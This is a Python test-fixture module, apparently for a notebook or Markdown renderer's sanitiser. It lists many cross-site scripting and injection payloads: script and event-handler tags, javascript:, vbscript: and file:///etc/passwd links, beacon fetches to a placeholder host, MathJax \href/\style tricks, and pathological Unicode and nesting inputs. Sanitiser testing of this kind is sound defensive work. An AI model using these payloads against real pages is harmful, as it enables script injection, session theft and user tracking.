r"""Texts that want to do something: run a script, fetch a file, leave their place in the page.

Each would set ``window.hit``, open a dialog, or ask for an address with `BEACON` in it.
"""

from __future__ import annotations

#: In every address that a text names; no request may carry it.
BEACON = "beacon-7f3a"
_URL = f"http://{BEACON}.invalid/x"
_RUN = "window.hit=1"

SCRIPTS = {
    "script": f"<script>{_RUN}</script>",
    "script in capitals": f"<SCRIPT>{_RUN}</SCRIPT>",
    "script from afar": f'<script src="{_URL}.js"></script>',
    "end of script": f"</script><script>{_RUN}</script>",
    "nested script": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "module": f'<script type="module">import "{_URL}.js"</script>',
    "img onerror": f'<img src=x onerror="{_RUN}">',
    "img with slashes": f"<img/src=x/onerror={_RUN}>",
    "svg onload": f'<svg onload="{_RUN}"></svg>',
    "svg animate": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    "svg use": f'<svg><use href="{_URL}.svg#a"/></svg>',
    "svg image": f'<svg><image href="{_URL}.png"/></svg>',
    "foreign object": f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    "math in html": f'<math><maction actiontype="statusline" xlink:href="javascript:{_RUN}">x',
    "details": f"<details open ontoggle={_RUN}>x</details>",
    "input": f"<input autofocus onfocus={_RUN}>",
    "marquee": f"<marquee onstart={_RUN}>x</marquee>",
    "form": f'<form action="{_URL}"><button autofocus>x</button></form>',
    "iframe": f'<iframe src="javascript:parent.{_RUN}"></iframe>',
    "iframe srcdoc": f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "object": f'<object data="{_URL}"></object>',
    "embed": f'<embed src="{_URL}">',
    "template": f"<template shadowrootmode=open><img src=x onerror={_RUN}></template>",
    "comment": f"<!--><img src=x onerror={_RUN}>-->",
    "cdata": f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    "instruction": f"<?xml-stylesheet href='{_URL}.css'?>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    "title": f'<title><a title="</title><img src=x onerror={_RUN}>">',
    "in a heading": f"# <img src=x onerror={_RUN}>",
    "in a table": f"| a |\n|---|\n| <img src=x onerror={_RUN}> |",
    "in a list": f"- > 1. <img src=x onerror={_RUN}>",
    "in code": f"`</code><img src=x onerror={_RUN}>`",
    "in a block of code": f"```html\n</code></pre><img src=x onerror={_RUN}>\n```",
    "in a language": f'```py"><img/src=x/onerror={_RUN}>\nx\n```',
    "in entities": f"&lt;img src=x onerror={_RUN}&gt; &#60;script&#62;{_RUN}&#60;/script&#62;",
    "in a title": f'[x](http://a.invalid "\\" onmouseover={_RUN} style=inset:0 \\"")',
    "in angle brackets": f'<http://a.invalid/"onmouseover={_RUN}>',
    "half a tag": f'<img src="x" onerror="{_RUN}',
    "notebook's own": f'<div data-commandlinker-command="help:about"><button>{_RUN}</button></div>',
    "template words": "{{constructor.constructor('window.hit=1')()}} ${window.hit=1}",
}

LINKS = {
    "javascript": f"[x](javascript:{_RUN})",
    "capitals": f"[x](JaVaScRiPt:{_RUN})",
    "entities": f"[x](&#106;avascript&colon;{_RUN})",
    "tab": f"[x](java&Tab;script:{_RUN})",
    "new line": f"[x](java&NewLine;script:{_RUN})",
    "control character": f"[x](<\x01javascript:{_RUN}>)",
    "spaces": f"[x](<  javascript:{_RUN}>)",
    "percent": f"[x](javascript%3A{_RUN})",
    "autolink": f"<javascript:{_RUN}>",
    "reference": f"[x][bad]\n\n[bad]: javascript:{_RUN}",
    "vbscript": "[x](vbscript:msgbox(1))",
    "data": f"[x](data:text/html,<script>opener.{_RUN}</script>)",
    "blob and file": "[x](blob:null/1) [y](file:///etc/passwd) [z](filesystem:x)",
    "program": "[x](vscode://a/b) [y](command:a) [z](ms-msdt:/id) [t](tel:1) [w](intent:x)",
    "image that is script": f"![x](javascript:{_RUN})",
}

FETCHES = {
    "image": f"![x]({_URL}.png)",
    "image by reference": f"![x][i]\n\n[i]: {_URL}.png",
    "image without scheme": f"![x](//{BEACON}.invalid/x.png)",
    "image as data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "linked image": f"[![x]({_URL}.png)](http://a.invalid)",
    "img": f"<img src='{_URL}.png'>",
    "srcset": f"<img srcset='{_URL}.png 1x'><picture><source srcset='{_URL}.png'></picture>",
    "video": f"<video poster='{_URL}.png' src='{_URL}.mp4' autoplay></video><audio src='{_URL}'>",
    "stylesheet": f"<link rel=stylesheet href='{_URL}.css'>",
    "preload": f"<link rel=preload href='{_URL}.png'><link rel=dns-prefetch href='{_URL}'>",
    "style": f"<style>body {{ display: none; background: url({_URL}) }}</style>",
    "import": f"<style>@import '{_URL}.css';</style>",
    "style attribute": f"<p style='background:url({_URL});position:fixed;inset:0'>x</p>",
    "base": f"<base href='http://{BEACON}.invalid/'>",
    "refresh": f"<meta http-equiv=refresh content='0;url={_URL}'>",
    "input image": f"<input type=image src='{_URL}.png'>",
    "body": f"<body background='{_URL}.png' onload={_RUN}>",
    "table background": f"<table background='{_URL}.png'><td background='{_URL}.png'>x</table>",
}

FORMULAS = {
    "href": rf"$\href{{javascript:{_RUN}}}{{x}}$",
    "href in brackets": rf"\(\href{{javascript:{_RUN}}}{{x}}\) \[\href{{{_URL}}}{{x}}\]",
    "href in a block": f"$$\n\\href{{javascript:{_RUN}}}{{x}}\n$$",
    "href in an environment": f"\\begin{{align}}\n\\href{{javascript:{_RUN}}}{{x}}\n\\end{{align}}",
    "href defined": rf"$\def\a{{\href}}\a{{javascript:{_RUN}}}{{x}}$",
    "href spelled": rf"$\csname href\endcsname{{javascript:{_RUN}}}{{x}}$",
    "href escaped": rf"\\(\href{{javascript:{_RUN}}}{{x}}\\) \$\href{{javascript:{_RUN}}}{{x}}\$",
    "href by entities": rf"&dollar;\href{{javascript:{_RUN}}}{{x}}&dollar;",
    "require": rf"$\require{{{BEACON}}}\require{{html}} x$",
    "style": rf"$\style{{background:url({_URL});position:fixed;inset:0}}{{x}}$",
    "class and id": r"$\class{jp-Dialog}{x}\cssId{main}{y}$",
    "box": rf"$\bbox[background:url({_URL})]{{x}}$",
    "token": rf'$\mmlToken{{mi}}[href="javascript:{_RUN}" src="{_URL}"]{{x}}$',
    "picture": rf"$\includegraphics{{{_URL}.png}}$",
    "unicode": rf"$\unicode[url({_URL})]{{x3c}}\unicode{{x202e}}$",
    "redefinition": r"$\gdef\alpha{stolen}\renewcommand{\beta}{stolen}\let\gamma\alpha$",
    "tags in it": f"$x<img src=x onerror={_RUN}>y$",
    "without end": r"$$ \begin{matrix} $ \( \[ $$$",
    "for ever": r"$\def\x{\x\x}\x$ $\newcommand{\y}{\y\y}\y$",
}

ODD = {
    "escapes": "\x1b]0;title\x07\x1b[2J\x1b[31mred\x1b[0m\x9b31m",
    "override": "\u202e" + "desrever" + "\u2066\u202d\u2068",
    "zero width": "a\u200b\u200c\u200d\u2060\ufeffb\u00ad",
    "controls": "".join(map(chr, [*range(1, 9), 11, 12, *range(14, 32), *range(127, 160)])),
    "nul": "a\x00b",
    "separators": "a\u2028b\u2029c\u0085d",
    "not characters": "\ufffe\uffff\U0010ffff\ue000",
    "combining": "Z" + "\u0351\u036b\u0343" * 200,
    "brackets": "[" * 3000 + "![" * 1500,
    "stars": "*" * 3000 + "_a" * 1500,
    "quotes": ">" * 3000,
    "bullets": "- " * 3000,
    "nested lists": "\n".join("  " * depth + "- x" for depth in range(100)),
    "backticks": "".join("`" * (count % 90 + 1) + "a" for count in range(300)),
    "pipes": "|a" * 900 + "\n" + "|-" * 900 + "\n" + "|b" * 900,
    "wide word": "W" * 20_000,
}

#: name -> text
ALL: dict[str, str] = {
    f"{kind}: {name}": text
    for kind, texts in {
        "script": SCRIPTS,
        "link": LINKS,
        "fetch": FETCHES,
        "formula": FORMULAS,
        "odd": ODD,
    }.items()
    for name, text in texts.items()
}
